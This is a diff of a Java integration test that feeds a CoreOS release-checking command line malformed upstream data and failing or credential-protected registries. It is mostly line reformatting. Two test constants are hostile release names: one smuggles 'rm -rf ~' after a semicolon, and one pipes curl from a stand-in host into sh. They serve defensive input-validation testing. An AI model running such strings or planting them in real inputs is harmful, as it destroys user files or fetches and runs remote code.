@@ -30,13 +30,22 @@ class CheckBadInputIT {
     static final String USER = "robot";
     /** Not a real credential: a marker that must never appear in anything the command prints. */
     static final String PASSWORD = "registry-pw-CANARY-5f2d9c";
+
     static final String HOSTILE_SEMICOLON = "44.20260707.3.1;rm -rf ~";
     static final String HOSTILE_SUBSHELL = "$(curl -s evil.example|sh)";
     static final String SPLIT_ARM = "44.20260714.3.0";
     static final String BASE_REFUSED_RELEASE = "42.20250915.3.0";
     static final String TARGET_FAULT_RELEASE = "44.20260718.3.0";
-    static final List<String> STREAMS = List.of("stable", "truncated", "not-json", "gone", "semicolon", "subshell", "split",
-            "base-refused", "registry-fault");
+    static final List<String> STREAMS = List.of(
+            "stable",
+            "truncated",
+            "not-json",
+            "gone",
+            "semicolon",
+            "subshell",
+            "split",
+            "base-refused",
+            "registry-fault");
 
     static FakeUpstream upstream;
     static LocalRegistry registry;
@@ -51,36 +60,68 @@ class CheckBadInputIT {
         upstream.build("stable", STABLE_RELEASE, STABLE_KERNEL);
         String whole = E2eFixtures.streamDocument("truncated", STABLE_RELEASE);
         upstream.streamAnswer("truncated", FakeUpstream.okJson(whole.substring(0, whole.length() / 3)));
-        upstream.streamAnswer("not-json", aResponse().withStatus(200).withHeader("Content-Type", "text/html")
-                .withBody("<html><body><h1>Service Unavailable</h1></body></html>"));
-        upstream.streamAnswer("gone", aResponse().withStatus(404).withHeader("Content-Type", "application/xml")
-                .withBody("<Error><Code>NoSuchKey</Code><Message>The specified key does not exist.</Message></Error>"));
+        upstream.streamAnswer(
+                "not-json",
+                aResponse()
+                        .withStatus(200)
+                        .withHeader("Content-Type", "text/html")
+                        .withBody("<html><body><h1>Service Unavailable</h1></body></html>"));
+        upstream.streamAnswer(
+                "gone",
+                aResponse()
+                        .withStatus(404)
+                        .withHeader("Content-Type", "application/xml")
+                        .withBody(
+                                "<Error><Code>NoSuchKey</Code><Message>The specified key does not exist.</Message></Error>"));
         upstream.stream("semicolon", HOSTILE_SEMICOLON);
         upstream.stream("subshell", HOSTILE_SUBSHELL);
         upstream.stream("split", Map.of(Arch.X86_64, STABLE_RELEASE, Arch.AARCH64, SPLIT_ARM));
         // base-refused: no commitmeta, so the kernel chain asks the base image's registry, which wants credentials.
         upstream.stream("base-refused", BASE_REFUSED_RELEASE);
         for (Arch arch : List.of(Arch.X86_64, Arch.AARCH64)) {
-            upstream.commitmetaAnswer("base-refused", BASE_REFUSED_RELEASE, arch, aResponse().withStatus(404));
+            upstream.commitmetaAnswer(
+                    "base-refused", BASE_REFUSED_RELEASE, arch, aResponse().withStatus(404));
         }
         upstream.build("registry-fault", TARGET_FAULT_RELEASE, STABLE_KERNEL);
 
         registry = LocalRegistry.anonymous();
         registry.seed()
-                .image(TARGET_REPO, "stable", Layout.OCI_INDEX, TargetLabels.bothArches(STABLE_RELEASE, FakeUpstream.ZFS, STABLE_KERNEL))
+                .image(
+                        TARGET_REPO,
+                        "stable",
+                        Layout.OCI_INDEX,
+                        TargetLabels.bothArches(STABLE_RELEASE, FakeUpstream.ZFS, STABLE_KERNEL))
                 .push();
         privateRegistry = LocalRegistry.withBasicAuth(USER, PASSWORD);
-        privateRegistry.seed()
-                .image(TARGET_REPO, "stable", Layout.OCI_INDEX, TargetLabels.bothArches(STABLE_RELEASE, FakeUpstream.ZFS, STABLE_KERNEL))
-                .image(BASE_REPO, BASE_REFUSED_RELEASE, Layout.OCI_INDEX, Map.of(
-                        Arch.X86_64, E2eFixtures.legacyBaseImageLabels(BASE_REFUSED_RELEASE, "6.16.7-200.fc42.x86_64"),
-                        Arch.AARCH64, E2eFixtures.legacyBaseImageLabels(BASE_REFUSED_RELEASE, "6.16.7-200.fc42.aarch64")))
+        privateRegistry
+                .seed()
+                .image(
+                        TARGET_REPO,
+                        "stable",
+                        Layout.OCI_INDEX,
+                        TargetLabels.bothArches(STABLE_RELEASE, FakeUpstream.ZFS, STABLE_KERNEL))
+                .image(
+                        BASE_REPO,
+                        BASE_REFUSED_RELEASE,
+                        Layout.OCI_INDEX,
+                        Map.of(
+                                Arch.X86_64,
+                                        E2eFixtures.legacyBaseImageLabels(
+                                                BASE_REFUSED_RELEASE, "6.16.7-200.fc42.x86_64"),
+                                Arch.AARCH64,
+                                        E2eFixtures.legacyBaseImageLabels(
+                                                BASE_REFUSED_RELEASE, "6.16.7-200.fc42.aarch64")))
                 .push();
         // The target registry as seen by the command line: the real one, except one tag answers 500.
         proxy = RegistryProxy.inFrontOf(registry);
-        proxy.answerManifest(TARGET_REPO, "registry-fault", aResponse().withStatus(500)
-                .withHeader("Content-Type", "application/json")
-                .withBody("{\"errors\":[{\"code\":\"UNKNOWN\",\"message\":\"unknown error\",\"detail\":\"storage backend down\"}]}"));
+        proxy.answerManifest(
+                TARGET_REPO,
+                "registry-fault",
+                aResponse()
+                        .withStatus(500)
+                        .withHeader("Content-Type", "application/json")
+                        .withBody(
+                                "{\"errors\":[{\"code\":\"UNKNOWN\",\"message\":\"unknown error\",\"detail\":\"storage backend down\"}]}"));
 
         Map<String, String> env = new HashMap<>(upstream.env());
         env.put("COREOS_STREAMS", String.join(",", STREAMS));
@@ -167,7 +208,8 @@ class CheckBadInputIT {
     @Test
     void architecturesThatDisagreeOnTheReleaseNameBothVersions() {
         String reason = errorReason("split", "upstream");
-        assertTrue(reason.contains(STABLE_RELEASE) && reason.contains(SPLIT_ARM) && reason.contains("disagree"), reason);
+        assertTrue(
+                reason.contains(STABLE_RELEASE) && reason.contains(SPLIT_ARM) && reason.contains("disagree"), reason);
     }
 
     @Test
@@ -184,7 +226,9 @@ class CheckBadInputIT {
         // The upstream facts learnt before the registry failed are kept.
         JsonNode decision = report().decision("registry-fault");
         assertEquals(TARGET_FAULT_RELEASE, decision.path("coreosVersion").asText());
-        assertEquals(STABLE_KERNEL + ".aarch64", report().arch("registry-fault", "aarch64").path("kernelVersion").asText());
+        assertEquals(
+                STABLE_KERNEL + ".aarch64",
+                report().arch("registry-fault", "aarch64").path("kernelVersion").asText());
     }
 
     @Test
@@ -196,14 +240,18 @@ class CheckBadInputIT {
 
         CliRun.Result refused = new CliRun().env(env).args("--json").run();
 
-        // docs/contract.md section 7: without credentials, a registry that denies an anonymous read is "not visible", and
+        // docs/contract.md section 7: without credentials, a registry that denies an anonymous read is "not visible",
+        // and
         // the image counts as not built (the first build of a new, private package); the reason says so.
         assertEquals(0, refused.exitCode(), refused::toString);
         JsonNode decision = refused.report().decision("stable");
         assertEquals("BUILD", decision.path("action").asText(), refused::toString);
         String reason = decision.path("reason").asText();
-        assertTrue(reason.contains("not visible anonymously") && reason.contains("asks for a username and password")
-                && reason.contains("registry.username"), decision::toPrettyString);
+        assertTrue(
+                reason.contains("not visible anonymously")
+                        && reason.contains("asks for a username and password")
+                        && reason.contains("registry.username"),
+                decision::toPrettyString);
         assertEquals(0, refused.report().root().path("errors").size(), refused::toString);
 
         env.put("REGISTRY_USERNAME", USER);
